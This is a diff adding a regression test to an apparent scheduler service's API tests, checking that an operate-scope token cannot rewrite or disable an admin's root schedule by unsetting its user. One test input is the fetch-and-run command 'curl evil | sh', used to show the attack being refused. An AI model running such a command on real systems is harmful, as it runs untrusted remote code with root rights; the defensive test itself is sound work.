@@ -99,3 +99,21 @@ def test_a_read_token_sees_no_secret_of_a_schedule_and_nobody_sees_its_notify_se
     assert master.api("PUT", "/schedules/nightly", {"cmd": "backup.sh --full"}, token=operate)[0] == 200
     assert master.master.scheduler.get("nightly").row.body["notify"][0]["secret"] == "pw-notify"
 
+
+
+def test_an_operate_token_cannot_take_over_an_admins_root_schedule_by_unsetting_its_user(in_process):
+    """The admin check looked at the schedule as changed only: {"user": null} made it a
+    schedule "not as root", so an operate token could rewrite (or disable) it."""
+    operate, admin = "o" * 24, "a" * 24
+    master = in_process(api_tokens=[{"name": "ops", "scope": "operate", "token": operate},
+                                    {"name": "boss", "scope": "admin", "token": admin}])
+    rooted = {"name": "patch", "when": "every 1h", "cmd": "apt-get -y upgrade", "user": "root"}
+    assert master.api("POST", "/schedules", rooted, token=admin)[0] == 201
+    for change in ({"user": None, "cmd": "curl evil | sh"}, {"user": None}, {"enabled": False}):
+        status, refused = master.api("PUT", "/schedules/patch", change, token=operate)
+        assert (status, refused["error"]["code"]) == (403, "insufficient_scope"), (change, refused)
+    _, seen = master.api("GET", "/schedules/patch", token=admin)
+    assert seen["user"] == "root" and seen["cmd"] == "apt-get -y upgrade" and seen["enabled"] is True
+    status, refused = master.api("PUT", "/schedules/patch", ["user"], token=admin)
+    assert (status, refused["error"]["code"]) == (400, "wrong_type")      # not a 500
+    assert master.api("PUT", "/schedules/patch", {"user": None}, token=admin)[0] == 200
